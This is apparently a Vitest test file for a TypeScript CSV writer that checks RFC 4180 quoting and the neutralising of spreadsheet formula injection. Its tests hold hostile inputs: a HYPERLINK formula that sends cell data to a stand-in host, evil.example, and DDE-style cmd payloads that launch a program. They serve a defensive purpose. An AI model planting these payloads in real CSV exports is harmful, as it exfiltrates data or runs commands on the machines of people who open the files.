import { describe, expect, it } from 'vitest';
import { csvField, csvLines, toCsv, type CsvColumn } from './csv';

interface Row {
  id: string;
  name?: string;
  labels?: string[];
  confidence?: number;
  extra?: unknown;
}

const columns: CsvColumn<Row>[] = [
  { header: 'id', value: (r) => r.id },
  { header: 'name', value: (r) => r.name },
  { header: 'labels', value: (r) => r.labels },
];

describe('CSV writer', () => {
  it('writes a header row and one CRLF-terminated record per row, in the chosen columns', () => {
    const rows: Row[] = [
      { id: 'indicator--1', name: 'Plain', labels: ['a', 'b'], confidence: 80 },
      { id: 'malware--2' },
    ];
    expect(toCsv(rows, columns)).toBe(
      'id,name,labels\r\nindicator--1,Plain,a; b\r\nmalware--2,,\r\n',
    );
    expect(toCsv([], columns)).toBe('id,name,labels\r\n');
  });

  it('quotes commas, quotes, CR and LF, doubling the quotes (RFC 4180)', () => {
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('line1\nline2')).toBe('"line1\nline2"');
    expect(csvField('line1\r\nline2')).toBe('"line1\r\nline2"');
    expect(csvField('"')).toBe('""""');
    expect(csvField('')).toBe('');
    expect(csvField('  spaced  ')).toBe('  spaced  ');
  });

  it('neutralises cells a spreadsheet would run as a formula or command', () => {
    const hostile = [
      ['=1+1', "'=1+1"],
      [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`,
      ],
      ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
      ['-2+3+cmd|calc!A0', "'-2+3+cmd|calc!A0"],
      ['@SUM(1,2)', `"'@SUM(1,2)"`],
      ['\t=1+1', "'\t=1+1"],
      ['\r=1+1', `"'\r=1+1"`],
      ["'already quoted", "'already quoted"],
      ['a=b', 'a=b'],
    ] as const;
    for (const [value, expected] of hostile) expect(csvField(value), value).toBe(expected);
  });

  it('neutralises hostile values inside lists and objects, and in headers', () => {
    expect(csvField(['=1+1', 'x'])).toBe(`'=1+1; x`);
    expect(csvField({ '=a': 1 })).toBe(`"{""=a"":1}"`);
    const evil: CsvColumn<Row>[] = [{ header: '=cmd', value: (r) => r.id }];
    expect(toCsv([{ id: '@x' }], evil)).toBe("'=cmd\r\n'@x\r\n");
  });

  it('writes numbers and booleans as they are, and nothing for null or undefined', () => {
    expect(csvField(-5)).toBe('-5');
    expect(csvField(0.25)).toBe('0.25');
    expect(csvField(true)).toBe('true');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
    expect(csvField('-5')).toBe("'-5");
  });

  it('streams the same document line by line', () => {
    const rows: Row[] = [
      { id: 'a', name: 'x,y' },
      { id: 'b', name: '=z' },
    ];
    expect([...csvLines(rows, columns)]).toEqual([
      'id,name,labels\r\n',
      'a,"x,y",\r\n',
      "b,'=z,\r\n",
    ]);
    expect([...csvLines(rows, columns)].join('')).toBe(toCsv(rows, columns));
  });
});
